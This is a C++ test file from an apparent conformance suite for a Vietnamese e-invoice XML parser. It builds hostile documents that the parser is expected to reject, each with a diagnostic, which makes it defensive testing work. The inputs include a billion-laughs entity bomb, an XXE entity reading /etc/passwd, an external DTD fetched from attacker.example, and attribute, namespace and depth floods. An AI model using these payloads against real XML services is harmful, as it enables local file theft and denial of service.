// Parser attacks and documents that are not e-invoices (README "Safety of the parser"): each
// gets one located diagnostic, from validation and from verification alike, and nothing after
// it runs on a rejected document.
#include "documents.hpp"

namespace conformance {
namespace {

// Both operations must refuse a document they cannot read (verify needs no trust material
// for that); `op` is "validate" for documents that are well-formed but not what they claim.
void hostile(Suite& s, const std::string& name, const std::string& doc, std::vector<std::string> codes, const char* en,
             const char* vi, bool pass = false, const char* op = "both") {
  add_case(s, "parser/" + name, doc, pass ? "validate" : op, validate_options(), pass, "", std::move(codes), en, vi);
}

std::string utf16le(const std::string& ascii) {
  std::string out = "\xFF\xFE";
  for (char c : ascii) out += c, out += '\0';
  return out;
}

}  // namespace

void add_parser(Suite& s) {
  const auto v = demo_vat();
  // Attribute floods (suite 1.1.0): refused from a count on the raw bytes, before the parser's
  // quadratic duplicate checks.
  {
    std::string many;
    for (int i = 0; i < 300; ++i) many += " a" + std::to_string(i) + "=\"\"";
    hostile(s, "attribute-flood", edit(v, "<THDon>", "<THDon" + many + ">"), {"XML-LIMIT"},
            "300 attributes on one element (the limit is 256)", "300 thuộc tính trên một phần tử (giới hạn 256)");
    std::string open, close;
    for (int level = 0; level < 5; ++level) {
      std::string decls;
      for (int i = 0; i < 250; ++i)
        decls += " xmlns:n" + std::to_string(level) + "x" + std::to_string(i) + "=\"urn:x\"";
      open += "<TTKhac" + decls + ">";
      close = "</TTKhac>" + close;
    }
    hostile(s, "namespace-flood", edit(v, "<THDon>", open + close + "<THDon>"), {"XML-LIMIT"},
            "1,250 namespace declarations in scope at once (the limit is 256)",
            "1.250 khai báo không gian tên cùng hiệu lực (giới hạn 256)");
  }
  const std::string decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
  hostile(s, "billion-laughs",
          decl +
              "<!DOCTYPE HDon [<!ENTITY a \"hahahahahahahahahaha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
              "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
              "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
              "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>" +
              edit(body(v), "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&h;</THDon>"),
          {"XML-DOCTYPE"}, "Billion laughs: nested entities that expand to gigabytes",
          "Tấn công \"tỷ tiếng cười\": thực thể lồng nhau nở ra hàng gigabyte");
  hostile(s, "xxe-file",
          decl + "<!DOCTYPE HDon [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" +
              edit(body(v), "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&x;</THDon>"),
          {"XML-DOCTYPE"}, "XXE: an external entity reading a local file",
          "XXE: thực thể bên ngoài đọc một tệp cục bộ");
  hostile(s, "xxe-network", decl + "<!DOCTYPE HDon SYSTEM \"http://attacker.example/evil.dtd\">" + body(v),
          {"XML-DOCTYPE"}, "An external DTD fetched from the network", "DTD bên ngoài tải qua mạng");
  hostile(s, "undeclared-entity", edit(v, "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&hoadon;</THDon>"),
          {"XML-ENTITY"}, "A reference to an entity no DTD declares", "Tham chiếu tới thực thể không được khai báo");
  {
    std::string deep;
    for (int i = 0; i < 300; ++i) deep += "<TTin>";
    for (int i = 0; i < 300; ++i) deep += "</TTin>";
    hostile(s, "huge-depth", edit(v, "</TTChung>", "<TTKhac>" + deep + "</TTKhac></TTChung>"), {"XML-DEPTH"},
            "Elements nested 300 deep (the limit is 256)", "Phần tử lồng nhau sâu 300 cấp (giới hạn là 256)");
  }
  hostile(s, "name-too-long", edit(v, "</TTChung>", "<" + std::string(60000, 'A') + "/></TTChung>"), {"XML-LIMIT"},
          "An element name of 60,000 characters", "Tên phần tử dài 60.000 ký tự");
  hostile(s, "utf16", utf16le("<?xml version=\"1.0\" encoding=\"UTF-16\"?><HDon><DLHDon Id=\"data\"/></HDon>"),
          {"XML-ENCODING"}, "A document in UTF-16: the format is UTF-8", "Tài liệu mã hóa UTF-16: định dạng là UTF-8");
  hostile(s, "latin1-declared", edit(v, "encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\""), {"XML-ENCODING"},
          "A document declaring ISO-8859-1", "Tài liệu khai báo mã hóa ISO-8859-1");
  hostile(s, "invalid-utf8", edit(v, "Hợp tác xã", "H\xE1\xBB t\xC3\xA1\xC3 x\xC3\xA3"), {"XML-UTF8"},
          "Bytes that are not valid UTF-8 in the seller's name", "Tên người bán chứa byte không hợp lệ theo UTF-8");
  static const char kPng[] = "\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1F\x15\xC4\x89";
  hostile(s, "binary", std::string(kPng, sizeof kPng - 1), {"XML-UTF8"},
          "A binary file (a PNG image) given as an invoice: refused as soon as it is not UTF-8",
          "Tệp nhị phân (ảnh PNG) được đưa vào như hóa đơn: bị từ chối ngay vì không phải UTF-8");
  hostile(s, "truncated", v.substr(0, v.size() / 2), {"XML-MALFORMED"}, "An invoice cut in the middle",
          "Hóa đơn bị cắt ngang ở giữa");
  hostile(s, "empty", "", {"XML-EMPTY"}, "An empty file", "Tệp rỗng");
  hostile(s, "undeclared-prefix", edit(v, "<HDon>", "<HDon><inv:Ghi>x</inv:Ghi>"), {"XML-NAMESPACE"},
          "An element with an undeclared namespace prefix", "Phần tử có tiền tố không gian tên chưa khai báo");
  hostile(s, "utf8-bom", "\xEF\xBB\xBF" + v, {}, "Near miss: UTF-8 with a byte-order mark",
          "Gần đúng: UTF-8 có dấu thứ tự byte (BOM)", true);
  hostile(s, "unknown-root", decl + "<Invoice><Number>123</Number></Invoice>", {"DOC-UNKNOWN-ROOT"},
          "A well-formed document that is not an e-invoice document",
          "Tài liệu XML hợp lệ nhưng không phải tài liệu hóa đơn điện tử", false, "validate");
  hostile(s, "no-dlhdon", decl + "<HDon><DSCKS><NBan/></DSCKS></HDon>", {"DOC-NO-DATA", "SCHEMA-VERSION"},
          "An HDon without its data (DLHDon), hence without a format version",
          "HDon không có dữ liệu hóa đơn (DLHDon), do đó không có phiên bản định dạng", false, "validate");
  hostile(s, "two-dlhdon", edit(v, "</DLHDon>", "</DLHDon><DLHDon Id=\"data2\"><TTChung/></DLHDon>"),
          {"DOC-DUPLICATE", "SCHEMA-REPEATED"}, "Two DLHDon in one invoice", "Hai DLHDon trong một hóa đơn", false,
          "validate");
}

}  // namespace conformance
